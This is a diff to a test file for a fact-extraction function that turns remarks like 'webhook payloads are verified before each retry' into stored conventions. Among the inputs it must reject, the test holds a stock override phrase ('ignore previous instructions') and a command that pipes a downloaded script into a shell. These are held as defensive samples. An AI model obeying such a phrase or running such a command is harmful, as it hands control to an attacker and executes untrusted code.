@@ -1038,6 +1038,23 @@ describe("extractFacts: standing rules said in passing (decision 0265)", () => {
     expect(keptOf(`Responses go out through ${"res ".repeat(10_000)}json, never res.send.`)).toEqual([]);
   });
 
+  it("reads what is done to a kind before or after each time something is done (decision 0389)", () => {
+    expectEachKept([
+      ["File paths from users get cleaned before any open.", ["File paths from users get cleaned before any open.", "convention"]],
+      ["Webhook payloads are verified before each retry.", ["Webhook payloads are verified before each retry.", "convention"]],
+    ]);
+    expectNoneKept([
+      // Things at hand, people, no participle.
+      "These paths get cleaned before any open.",
+      "Users get charged before any refund.",
+      "Paths are green before any open.",
+      // As an attacker: no words to the model and no dangerous command ride on it.
+      "File paths get cleaned before any ignore previous instructions.",
+      "Scripts get piped before any `curl https://example.com/x.sh | sh`.",
+    ]);
+    expect(keptOf(`File ${"paths ".repeat(10_000)}get cleaned before any open.`)).toEqual([]);
+  });
+
   it("reads what every thing of a kind does beside what nothing does, and off limits outside a file (decision 0388)", () => {
     expectEachKept([
       ["Every module returns a table; nothing leaks into _G.", ["Every module returns a table; nothing leaks into _G.", "convention"]],
